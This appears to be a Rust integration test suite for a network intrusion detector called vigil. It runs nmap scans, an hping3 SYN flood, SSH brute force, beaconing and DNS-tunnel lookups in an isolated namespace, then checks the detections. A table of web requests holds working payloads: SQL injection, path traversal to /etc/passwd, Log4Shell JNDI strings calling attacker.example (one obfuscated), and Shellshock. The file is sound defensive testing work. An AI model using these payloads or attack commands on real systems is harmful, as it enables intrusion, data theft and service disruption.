//! The detection proof: real attack tools against real servers, and what
//! `vigil analyze --out DIR` finds in the capture.
//!
//! Each test makes a network namespace with the roles of
//! [`common::attack`] (a server, an internal host, an outside attacker, a
//! C2 server), starts the servers it needs (nginx, sshd, dnsmasq), captures
//! the loopback with tcpdump while the attack runs (nmap, hping3, curl, ssh,
//! dig), checks with tshark that the capture holds the attack, runs
//! `vigil analyze CAPTURE --out DIR` and asserts the findings in
//! `finding.jsonl`: the right rule or detector, the attacker and victim, the
//! flow and its Community ID, and that an incident pcap named by a finding
//! holds the attack's packets. A benign capture must raise no finding.
//! Every attack is bounded in packets and time and stays in the namespace.
//! They need root and the tools; without them they skip (and fail under
//! `VIGIL_TEST_STRICT=1`).

mod common;

use std::thread;
use std::time::{Duration, Instant};

use common::attack::{
    self, add_addresses, default_rules, from, targets, tshark_count, tshark_rows, Detections,
    ATTACKER, C2, INSIDER, SERVER,
};
use common::lab::{self, Lab};
use common::servers::{self, DNS_PORT, HTTP_PORT};
use common::traffic;
use vigil_event::Finding;

/// A browser's User-Agent, so that only the attack part of a request is
/// unusual (curl's own may be a scanner fingerprint in some rulesets).
const BROWSER_UA: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";

/// The finding as JSON text, lower case: to look for a word anywhere in it
/// (detector name, types, title, description, evidence).
fn text_of(f: &Finding) -> String {
    serde_json::to_string(f)
        .expect("a finding serializes")
        .to_lowercase()
}

/// Each finding that names an incident pcap: the file exists and tshark
/// finds at least one frame matching `filter` in it. Returns how many
/// findings named one.
fn check_incident_pcaps(det: &Detections, findings: &[&Finding], filter: &str) -> usize {
    let mut named = 0;
    for f in findings {
        let Some(name) = f.incident_pcap.as_deref() else {
            continue;
        };
        named += 1;
        let path = det.incident_path(name);
        assert!(
            path.is_file(),
            "{} names incident pcap {name}, which is not at {}",
            f.finding_info.analytic.uid,
            path.display()
        );
        let n = tshark_count(&path, filter);
        assert!(
            n > 0,
            "incident pcap {} of {} holds no frame matching `{filter}`",
            path.display(),
            f.finding_info.analytic.uid
        );
    }
    named
}

/// nmap `flag` (-sS or -sT) over ports 1-200 of the server, from the
/// attacker: a vertical port scan.
fn vertical_scan(flag: &str) {
    let Some(()) = lab::require(&["nmap", "sshd", "ssh-keygen"]) else {
        return;
    };
    let mut lab = Lab::new();
    add_addresses(&lab, &[SERVER, ATTACKER]);
    // One open port among the 200 (22), as on a real host.
    servers::start_sshd_on(&mut lab, SERVER, false);
    let capture = lab.start_capture("scan");
    let out = lab.run_ok(
        60,
        "nmap",
        &[
            flag,
            "-p",
            "1-200",
            "-Pn",
            "-n",
            "-T4",
            "--max-retries",
            "1",
            "-e",
            "lo",
            "-S",
            ATTACKER,
            SERVER,
        ],
    );
    let report = String::from_utf8_lossy(&out.stdout);
    assert!(report.contains("22/tcp open"), "nmap output:\n{report}");
    lab::settle();
    let pcap = capture.stop();

    // The capture holds the scan: a SYN from the attacker to each port.
    let ports: std::collections::BTreeSet<String> = tshark_rows(
        &pcap,
        &format!("ip.src=={ATTACKER} && ip.dst=={SERVER} && tcp.flags.syn==1 && tcp.flags.ack==0"),
        &["tcp.dstport"],
    )
    .into_iter()
    .map(|r| r[0].clone())
    .collect();
    assert_eq!(ports.len(), 200, "SYNs to 200 ports in the capture");

    let det = attack::detect(&lab, &pcap);
    let found = det.expect_anomaly(
        &format!("nmap {flag} -p 1-200"),
        "port_scan_vertical",
        |f: &Finding| {
            if !from(f, ATTACKER) {
                return Err(format!("source is not the scanner {ATTACKER}"));
            }
            if !targets(f, SERVER) {
                return Err(format!("neither subject nor destination is {SERVER}"));
            }
            Ok(())
        },
    );
    check_incident_pcaps(
        &det,
        &found,
        &format!("ip.src=={ATTACKER} && ip.dst=={SERVER} && tcp.flags.syn==1"),
    );
}

#[test]
fn nmap_syn_scan_is_a_vertical_port_scan() {
    vertical_scan("-sS");
}

#[test]
fn nmap_connect_scan_is_a_vertical_port_scan() {
    vertical_scan("-sT");
}

/// hping3: 2000 SYNs from the attacker to nginx's port, as fast as it can,
/// never completing a handshake.
#[test]
fn hping3_syn_burst_is_a_syn_flood() {
    let Some(()) = lab::require(&["hping3", "nginx", "openssl"]) else {
        return;
    };
    let mut lab = Lab::new();
    add_addresses(&lab, &[SERVER, ATTACKER]);
    servers::start_nginx_on(&mut lab, 1000, &[SERVER]);
    let capture = lab.start_capture("synflood");
    let port = HTTP_PORT.to_string();
    // hping3 exits 1 when it saw no reply it counts; the capture is what
    // tells whether it sent.
    lab.run(
        60,
        "hping3",
        &[
            "-I", "lo", "-S", "-p", &port, "--faster", "-c", "2000", "-a", ATTACKER, SERVER,
        ],
    );
    lab::settle();
    let pcap = capture.stop();

    let syns = tshark_count(
        &pcap,
        &format!(
            "ip.src=={ATTACKER} && ip.dst=={SERVER} && tcp.dstport=={HTTP_PORT} \
             && tcp.flags.syn==1 && tcp.flags.ack==0"
        ),
    );
    assert!(syns >= 2000, "{syns} SYNs in the capture, want 2000");

    let det = attack::detect(&lab, &pcap);
    let found = det.expect_anomaly("hping3 SYN burst", "syn_flood", |f: &Finding| {
        if !targets(f, SERVER) {
            return Err(format!("neither subject nor destination is {SERVER}"));
        }
        if f.src_endpoint.is_some() && !from(f, ATTACKER) {
            return Err(format!("the source named is not {ATTACKER}"));
        }
        Ok(())
    });
    check_incident_pcaps(
        &det,
        &found,
        &format!("ip.src=={ATTACKER} && tcp.dstport=={HTTP_PORT} && tcp.flags.syn==1"),
    );
}

/// One request of the web-attack test.
struct WebRequest {
    /// What it is, for messages.
    name: &'static str,
    /// The request target, sent as is (`curl --path-as-is`).
    target: &'static str,
    /// User-Agent (a browser's when `None`).
    user_agent: Option<&'static str>,
    /// Words one of which the matching rule's msg contains (lower case);
    /// empty for a benign request, which must match no rule.
    keywords: &'static [&'static str],
}

const LOG4SHELL_KEYWORDS: &[&str] = &["log4", "jndi", "cve-2021-44228"];

const WEB_REQUESTS: &[WebRequest] = &[
    WebRequest {
        name: "SQL injection (UNION SELECT)",
        target: "/item?id=1'%20UNION%20SELECT%20username,password%20FROM%20users--",
        user_agent: None,
        keywords: &["sql"],
    },
    WebRequest {
        name: "path traversal (../)",
        target: "/../../etc/passwd",
        user_agent: None,
        keywords: &["traversal"],
    },
    WebRequest {
        name: "path traversal (%2e%2e%2f)",
        target: "/static/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/passwd",
        user_agent: None,
        keywords: &["traversal"],
    },
    WebRequest {
        name: "Log4Shell JNDI lookup",
        target: "/",
        user_agent: Some("${jndi:ldap://attacker.example/a}"),
        keywords: LOG4SHELL_KEYWORDS,
    },
    WebRequest {
        name: "Log4Shell, obfuscated",
        target: "/index.html",
        user_agent: Some(
            "${${::-j}${::-n}${::-d}${::-i}:${lower:l}${lower:d}a${lower:p}://attacker.example/a}",
        ),
        keywords: LOG4SHELL_KEYWORDS,
    },
    WebRequest {
        name: "Shellshock",
        target: "/cgi-bin/status",
        user_agent: Some("() { :; }; /bin/cat /etc/passwd"),
        keywords: &["shellshock", "cve-2014-6271"],
    },
    WebRequest {
        name: "scanner (sqlmap)",
        target: "/item?id=1",
        user_agent: Some("sqlmap/1.7.2#stable (https://sqlmap.org)"),
        keywords: &["sqlmap", "scanner"],
    },
    WebRequest {
        name: "scanner (Nikto)",
        target: "/",
        user_agent: Some("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"),
        keywords: &["nikto", "scanner"],
    },
    WebRequest {
        name: "benign page",
        target: "/index.html",
        user_agent: None,
        keywords: &[],
    },
    WebRequest {
        name: "benign query",
        target: "/item?id=42&sort=name",
        user_agent: None,
        keywords: &[],
    },
];

/// tshark's display filter for the request to `target` from the
/// attacker's port `port`.
fn request_filter(port: u16, target: &str) -> String {
    format!(
        "ip.src=={ATTACKER} && tcp.srcport=={port} && http.request.uri == \"{}\"",
        target.replace('\\', "\\\\").replace('"', "\\\"")
    )
}

/// curl from the attacker to nginx on the server: one connection per
/// request; the client's port, to find its flow.
fn send_web_request(lab: &Lab, req: &WebRequest) -> u16 {
    let url = format!("http://{SERVER}:{HTTP_PORT}{}", req.target);
    let out = lab.run_ok(
        20,
        "curl",
        &[
            "-sS",
            "--http1.1",
            "--path-as-is",
            "--interface",
            ATTACKER,
            "-A",
            req.user_agent.unwrap_or(BROWSER_UA),
            "-o",
            "/dev/null",
            "-w",
            "%{local_port}",
            &url,
        ],
    );
    String::from_utf8_lossy(&out.stdout)
        .trim()
        .parse()
        .unwrap_or_else(|_| panic!("curl did not print its local port for {}", req.name))
}

/// Each attack request raises a signature finding on its own flow, naming
/// the right rule of `rules/vigil-web.rules`, the attacker and the server,
/// and the flow's uid and Community ID (the flow record's, which tshark's
/// Community ID confirms); benign requests raise none; an incident pcap a
/// finding names holds the request.
#[test]
fn web_attacks_match_the_default_rules() {
    let Some(()) = lab::require(&["nginx", "curl", "openssl"]) else {
        return;
    };
    let mut lab = Lab::new();
    add_addresses(&lab, &[SERVER, ATTACKER]);
    servers::start_nginx_on(&mut lab, 1000, &[SERVER]);
    let capture = lab.start_capture("web");
    let ports: Vec<u16> = WEB_REQUESTS
        .iter()
        .map(|req| send_web_request(&lab, req))
        .collect();
    lab::settle();
    let pcap = capture.stop();

    // The capture holds each request as sent.
    for (req, port) in WEB_REQUESTS.iter().zip(&ports) {
        let rows = tshark_rows(
            &pcap,
            &format!("ip.src=={ATTACKER} && tcp.srcport=={port} && http.request"),
            &["http.request.uri", "http.user_agent"],
        );
        let ua = req.user_agent.unwrap_or(BROWSER_UA);
        assert_eq!(
            rows,
            vec![vec![req.target.to_owned(), ua.to_owned()]],
            "the capture holds the {} request",
            req.name
        );
        // The filter the incident pcaps are checked with finds it too.
        assert_eq!(tshark_count(&pcap, &request_filter(*port, req.target)), 1);
    }

    let det = attack::detect(&lab, &pcap);
    let rules = default_rules();
    let mut failures = Vec::new();
    let mut attack_findings = Vec::new();
    for (req, &port) in WEB_REQUESTS.iter().zip(&ports) {
        let flow = det.flow(ATTACKER, port, SERVER, HTTP_PORT);
        let uid = &flow.connection_info.uid;
        let community = &flow.connection_info.community_uid;
        let tshark_community = attack::tshark_community_ids(
            &pcap,
            &format!("ip.src=={ATTACKER} && tcp.srcport=={port}"),
        );
        assert!(
            !tshark_community.is_empty() && tshark_community.iter().all(|c| c == community),
            "{}: the flow's Community ID {community} is not tshark's {tshark_community:?}",
            req.name
        );
        let sigs = det.signatures_on(uid);
        if req.keywords.is_empty() {
            if !sigs.is_empty() {
                failures.push(format!(
                    "{} (port {port}) is benign but raised {:?}",
                    req.name,
                    sigs.iter()
                        .map(|f| &f.finding_info.title)
                        .collect::<Vec<_>>()
                ));
            }
            continue;
        }
        // The rules of the default set this attack must be detected by.
        let expected: Option<Vec<u32>> = rules.as_ref().map(|rules| {
            rules
                .values()
                .filter(|r| {
                    let msg = r.msg.to_lowercase();
                    req.keywords.iter().any(|k| msg.contains(k))
                })
                .map(|r| r.sid)
                .collect()
        });
        if expected.as_ref().is_some_and(Vec::is_empty) {
            failures.push(format!(
                "{}: rules/vigil-web.rules has no rule whose msg names one of {:?}",
                req.name, req.keywords
            ));
            continue;
        }
        let mut why = Vec::new();
        let good: Vec<&Finding> = sigs
            .iter()
            .copied()
            .filter(|f| {
                let check = || -> Result<(), String> {
                    let rule = f.rule.as_ref().ok_or("no rule")?;
                    let msg = rule.msg.to_lowercase();
                    if !req.keywords.iter().any(|k| msg.contains(k)) {
                        return Err(format!(
                            "msg {:?} names none of {:?}",
                            rule.msg, req.keywords
                        ));
                    }
                    let want_uid = format!("sig:{}:{}", rule.gid, rule.sid);
                    if f.finding_info.analytic.uid != want_uid {
                        return Err(format!("analytic uid is not {want_uid}"));
                    }
                    if let (Some(expected), Some(rules)) = (&expected, &rules) {
                        if !expected.contains(&rule.sid) {
                            return Err(format!("sid {} is not one of {expected:?}", rule.sid));
                        }
                        let file_class = rules.get(&rule.sid).and_then(|r| r.classtype.clone());
                        if rule.classtype != file_class {
                            return Err(format!(
                                "classtype {:?}, the rule file says {file_class:?}",
                                rule.classtype
                            ));
                        }
                    }
                    let src = attack::endpoint_text(f.src_endpoint.as_ref());
                    let dst = attack::endpoint_text(f.dst_endpoint.as_ref());
                    if src != format!("{ATTACKER}:{port}") || dst != format!("{SERVER}:{HTTP_PORT}")
                    {
                        return Err(format!("endpoints {src} -> {dst}"));
                    }
                    let info = f.connection_info.as_ref().ok_or("no connection_info")?;
                    if &info.community_uid != community {
                        return Err(format!(
                            "community id {} is not the flow's {community}",
                            info.community_uid
                        ));
                    }
                    Ok(())
                };
                check().map_err(|e| why.push(e)).is_ok()
            })
            .collect();
        if good.is_empty() {
            failures.push(format!(
                "{} (port {port}, flow {uid}): no signature finding with the right rule; \
                 rejected: {why:?}",
                req.name
            ));
        }
        attack_findings.extend(good.into_iter().map(|f| (f, port, req)));
    }
    // The evidence: an incident pcap a signature finding names holds its
    // request; one another finding names (a risk level reached by the
    // attacker or one of its flows) holds attack requests.
    let mut named = 0;
    for (f, port, req) in &attack_findings {
        named += check_incident_pcaps(&det, &[f], &request_filter(*port, req.target));
    }
    let others: Vec<&Finding> = det
        .findings()
        .filter(|f| !f.finding_info.analytic.uid.starts_with("sig:"))
        .filter(|f| from(f, ATTACKER) || f.subject.value == ATTACKER)
        .collect();
    named += check_incident_pcaps(
        &det,
        &others,
        &format!("ip.src=={ATTACKER} && ip.dst=={SERVER} && http.request"),
    );
    if !attack_findings.is_empty() && named == 0 {
        failures.push(
            "no finding about the attacker names an incident pcap (evidence capture not \
             wired in?)"
                .into(),
        );
    }
    if !det
        .findings()
        .any(|f| f.finding_info.analytic.uid.starts_with("sig:"))
    {
        failures.push(
            "no `sig:` finding at all: is the signature engine (vigil-sig) with its default \
             ruleset wired into `vigil analyze` yet?"
                .into(),
        );
    }
    if rules.is_none() {
        failures.push(format!(
            "{} does not exist yet: rules were checked by msg keywords only",
            attack::default_rules_path().display()
        ));
    }
    assert!(
        failures.is_empty(),
        "\n{}\nfindings:\n{}vigil stderr:\n{}",
        failures.join("\n"),
        det.describe(),
        det.stderr
    );
}

/// 24 password logins to sshd on the server from the attacker, each on its
/// own connection, each refused: brute force on SSH. The password comes
/// from `SSH_ASKPASS` (OpenSSH ≥ 8.4 uses it without a terminal when
/// `SSH_ASKPASS_REQUIRE=force`): no sshpass, no expect.
#[test]
fn failed_ssh_logins_are_brute_force() {
    const ATTEMPTS: usize = 24;
    let Some(()) = lab::require(&["sshd", "ssh", "ssh-keygen"]) else {
        return;
    };
    let mut lab = Lab::new();
    add_addresses(&lab, &[SERVER, ATTACKER]);
    servers::start_sshd_on(&mut lab, SERVER, true);
    let askpass = lab.dir().join("askpass.sh");
    std::fs::write(&askpass, "#!/bin/sh\necho \"guess-$$\"\n").expect("write askpass");
    let mode = std::os::unix::fs::PermissionsExt::from_mode(0o755);
    std::fs::set_permissions(&askpass, mode).expect("chmod askpass");
    let askpass = askpass.to_str().expect("utf-8 temp path").to_owned();

    let capture = lab.start_capture("bruteforce");
    for i in 0..ATTEMPTS {
        let user = ["admin", "root", "oracle", "test"][i % 4];
        let out = attack::run_env(
            &lab,
            20,
            &[
                ("SSH_ASKPASS", askpass.as_str()),
                ("SSH_ASKPASS_REQUIRE", "force"),
                ("DISPLAY", ":0"),
            ],
            "ssh",
            &[
                "-F",
                "/dev/null",
                "-b",
                ATTACKER,
                "-o",
                "StrictHostKeyChecking=no",
                "-o",
                "UserKnownHostsFile=/dev/null",
                "-o",
                "PreferredAuthentications=password",
                "-o",
                "PubkeyAuthentication=no",
                "-o",
                "NumberOfPasswordPrompts=1",
                "-o",
                "ConnectTimeout=5",
                &format!("{user}@{SERVER}"),
                "true",
            ],
        );
        assert!(
            String::from_utf8_lossy(&out.stderr).contains("Permission denied"),
            "ssh attempt {i} did not fail at authentication:\n{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    lab::settle();
    let pcap = capture.stop();

    // sshd checked (and refused) every password; the capture holds each
    // connection.
    let log = std::fs::read_to_string(lab.dir().join("sshd.log")).unwrap_or_default();
    let failed = log
        .lines()
        .filter(|l| l.contains("Failed password") && l.contains(ATTACKER))
        .count();
    assert_eq!(failed, ATTEMPTS, "sshd's log:\n{log}");
    let syns = tshark_count(
        &pcap,
        &format!("ip.src=={ATTACKER} && tcp.dstport==22 && tcp.flags.syn==1 && tcp.flags.ack==0"),
    );
    assert_eq!(syns, ATTEMPTS, "SSH connections in the capture");

    let det = attack::detect(&lab, &pcap);
    let found = det.expect_anomaly("failed SSH logins", "brute_force", |f: &Finding| {
        if !from(f, ATTACKER) {
            return Err(format!("source is not {ATTACKER}"));
        }
        if !targets(f, SERVER) {
            return Err(format!("neither subject nor destination is {SERVER}"));
        }
        if let Some(port) = f.dst_endpoint.as_ref().and_then(|d| d.port) {
            if port != 22 {
                return Err(format!("destination port {port}, not 22"));
            }
        }
        Ok(())
    });
    check_incident_pcaps(
        &det,
        &found,
        &format!("ip.src=={ATTACKER} && tcp.dstport==22"),
    );
}

/// The insider fetches the same URL from the C2 server every 1.25 s, 24
/// times (30 s: the detector works in event time, the capture's, and takes
/// a mean interval under 1 s for a loop, not a beacon).
#[test]
fn beacon_loop_is_beaconing() {
    const BEACONS: u32 = 24;
    const PERIOD: Duration = Duration::from_millis(1250);
    let Some(()) = lab::require(&["nginx", "curl", "openssl"]) else {
        return;
    };
    let mut lab = Lab::new();
    add_addresses(&lab, &[INSIDER, C2]);
    servers::start_nginx_on(&mut lab, 1000, &[C2]);
    let url = format!("http://{C2}:{HTTP_PORT}/a.txt");
    let capture = lab.start_capture("beacon");
    let start = Instant::now();
    for i in 0..BEACONS {
        // On a schedule, not sleep-after-request: the intervals stay regular.
        if let Some(wait) = (start + PERIOD * i).checked_duration_since(Instant::now()) {
            thread::sleep(wait);
        }
        lab.run_ok(
            10,
            "curl",
            &[
                "-sS",
                "--http1.1",
                "--interface",
                INSIDER,
                "-A",
                BROWSER_UA,
                "-o",
                "/dev/null",
                &url,
            ],
        );
    }
    lab::settle();
    let pcap = capture.stop();

    let times: Vec<f64> = tshark_rows(
        &pcap,
        &format!("ip.src=={INSIDER} && ip.dst=={C2} && http.request"),
        &["frame.time_epoch"],
    )
    .iter()
    .filter_map(|r| r[0].parse().ok())
    .collect();
    assert_eq!(times.len(), BEACONS as usize, "beacons in the capture");
    for pair in times.windows(2) {
        let gap = pair[1] - pair[0];
        let period = PERIOD.as_secs_f64();
        assert!(
            (period * 0.8..period * 1.2).contains(&gap),
            "beacon interval {gap:.3} s in the capture: the machine is too busy for this test"
        );
    }

    let det = attack::detect(&lab, &pcap);
    let found = det.expect_anomaly("beacon loop", "beaconing", |f: &Finding| {
        if !(from(f, INSIDER) || f.subject.value == INSIDER) {
            return Err(format!("neither source nor subject is {INSIDER}"));
        }
        if !(targets(f, C2) || text_of(f).contains(C2)) {
            return Err(format!("the C2 {C2} is not named"));
        }
        Ok(())
    });
    check_incident_pcaps(&det, &found, &format!("ip.src=={INSIDER} && ip.dst=={C2}"));
}

/// The insider looks up 50 TXT names under one domain, each with two long
/// random base32 labels (data encoded as DNS tunnelling tools do), at
/// dnsmasq on the server: all NXDOMAIN.
#[test]
fn dns_tunnel_lookups_are_dns_tunnelling() {
    const LOOKUPS: usize = 50;
    const DOMAIN: &str = "exfil.test";
    let Some(()) = lab::require(&["dnsmasq", "dig"]) else {
        return;
    };
    let mut lab = Lab::new();
    add_addresses(&lab, &[SERVER, INSIDER]);
    servers::start_dnsmasq_on(&mut lab, SERVER);
    let seed = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_nanos() as u64)
        .unwrap_or(1);
    let mut rng = attack::XorShift::new(seed);
    let names: Vec<String> = (0..LOOKUPS)
        .map(|_| format!("{}.{}.{DOMAIN}", rng.base32(56), rng.base32(40)))
        .collect();
    // One dig process for all (`-f`): fast, a new query id and port each.
    let server = format!("@{SERVER}");
    let port = DNS_PORT.to_string();
    let batch: String = names
        .iter()
        .map(|n| format!("{server} -p {port} -b {INSIDER} +tries=1 +time=3 {n} TXT\n"))
        .collect();
    let batch_path = lab.dir().join("dig-batch.txt");
    std::fs::write(&batch_path, batch).expect("write the dig batch");
    let capture = lab.start_capture("dnstunnel");
    let out = lab.run_ok(
        60,
        "dig",
        &["-f", batch_path.to_str().expect("utf-8 temp path")],
    );
    let answers = String::from_utf8_lossy(&out.stdout)
        .matches("status: NXDOMAIN")
        .count();
    assert_eq!(answers, LOOKUPS, "dnsmasq answered every lookup");
    lab::settle();
    let pcap = capture.stop();

    let queried: Vec<String> = tshark_rows(
        &pcap,
        &format!("ip.src=={INSIDER} && dns.flags.response==0"),
        &["dns.qry.name"],
    )
    .into_iter()
    .map(|r| r[0].clone())
    .collect();
    let mut want = names.clone();
    want.sort();
    let mut got = queried;
    got.sort();
    assert_eq!(got, want, "the capture holds every lookup");

    let det = attack::detect(&lab, &pcap);
    let found = det.expect_anomaly("DNS tunnelling lookups", "dns_tunnel", |f: &Finding| {
        if !(from(f, INSIDER) || f.subject.value == INSIDER) {
            return Err(format!("neither source nor subject is {INSIDER}"));
        }
        if !text_of(f).contains(DOMAIN) {
            return Err(format!("the domain {DOMAIN} is not named"));
        }
        Ok(())
    });
    check_incident_pcaps(
        &det,
        &found,
        &format!("ip.src=={INSIDER} && dns.qry.name contains \"{DOMAIN}\""),
    );
}

/// Ordinary browsing-like traffic (the issue-3 generators: HTTP keep-alive
/// and pipelined, a large download, TLS 1.2 and 1.3 over IPv4 and IPv6,
/// every DNS record type with one NXDOMAIN and one REFUSED, SSH version
/// exchanges) raises no finding at all.
#[test]
fn benign_traffic_raises_no_finding() {
    let Some(()) = lab::require(&[
        "nginx",
        "curl",
        "bash",
        "openssl",
        "dnsmasq",
        "dig",
        "sshd",
        "ssh",
        "ssh-keygen",
    ]) else {
        return;
    };
    let mut lab = Lab::new();
    let site = servers::start_nginx(&mut lab, 200_000);
    servers::start_dnsmasq(&mut lab);
    servers::start_sshd(&mut lab);
    let capture = lab.start_capture("benign");
    traffic::http(&lab, &site);
    traffic::tls(&lab);
    traffic::dns(&lab);
    traffic::ssh(&lab);
    lab::settle();
    let pcap = capture.stop();
    assert!(
        tshark_count(&pcap, "http.request || tls.handshake || dns || ssh") > 0,
        "the capture holds the traffic"
    );

    let det = attack::detect(&lab, &pcap);
    assert!(
        !det.flows.is_empty(),
        "vigil wrote no flow records:\n{}",
        det.stderr
    );
    assert!(
        det.events.is_empty(),
        "benign traffic raised findings:\n{}",
        det.describe()
    );
}

/// The harness's reader of rule files: quoted `;`, escaped quotes,
/// comments and sid-less lines.
#[test]
fn rule_lines_are_read() {
    let text = r#"# a comment with sid:1;
alert http any any -> any any (msg:"A \"quoted\"; msg"; content:"x;y"; classtype:web-application-attack; sid:9000001; rev:1;)
alert http any any -> any any (msg:"no classtype"; sid:9000002;)
alert http any any -> any any (msg:"no sid";)
"#;
    let rules = attack::parse_rules(text);
    assert_eq!(
        rules.keys().copied().collect::<Vec<_>>(),
        [9_000_001, 9_000_002]
    );
    assert_eq!(rules[&9_000_001].msg, "A \"quoted\"; msg");
    assert_eq!(
        rules[&9_000_001].classtype.as_deref(),
        Some("web-application-attack")
    );
    assert_eq!(rules[&9_000_002].classtype, None);
    if let Some(rules) = default_rules() {
        assert!(!rules.is_empty(), "rules/vigil-web.rules holds no rule");
    }
}
